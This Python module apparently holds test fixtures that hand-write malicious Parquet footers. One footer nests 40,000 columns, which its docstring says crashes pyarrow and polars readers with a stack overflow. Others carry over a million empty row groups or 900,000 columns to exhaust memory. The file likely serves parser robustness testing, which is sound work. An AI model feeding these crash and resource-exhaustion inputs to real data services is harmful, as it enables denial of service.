"""Parquet files that do harm: footers that end the process that parses them, or make it build millions of things."""

from eraflow.data.compactprotocol import varint

ROOT = b"\x48\x04root\x15\x02\x00"
LEAF = b"\x15\x02\x25\x02\x18\x01a\x00"
GROUP = b"\x35\x02\x18\x01g\x15\x02\x00"  # a column of one column
ENTRY = b"\x19\x0c\x16\x00\x16\x00\x00"  # a row group of no columns and no rows


def write_footer(path, content):
    path.write_bytes(b"PAR1" + content + len(content).to_bytes(4, "little") + b"PAR1")
    return path


def deadly(path, depth=40_000):
    """Columns in columns: the readers of pyarrow 25 and polars 1.42 end with SIGSEGV, as their stack is used up."""
    schema = b"\x19\xfc" + varint(depth + 2) + ROOT + GROUP * depth + LEAF
    return write_footer(path, b"\x15\x02" + schema + b"\x16\x00\x19\x0c\x00")


def empty_groups(path, groups=1_300_000):
    """Nine megabytes of row groups that hold nothing."""
    schema = b"\x19\x2c" + ROOT + LEAF
    return write_footer(path, b"\x15\x02" + schema + b"\x16\x00\x19\xfc" + varint(groups) + ENTRY * groups + b"\x00")


def many_columns(path, columns=900_000):
    """Nine megabytes of columns."""
    schema = b"\x19\xfc" + varint(columns + 1) + ROOT.replace(b"\x15\x02", b"\x15" + varint(columns << 1))
    return write_footer(path, b"\x15\x02" + schema + LEAF * columns + b"\x16\x00\x19\x0c\x00")
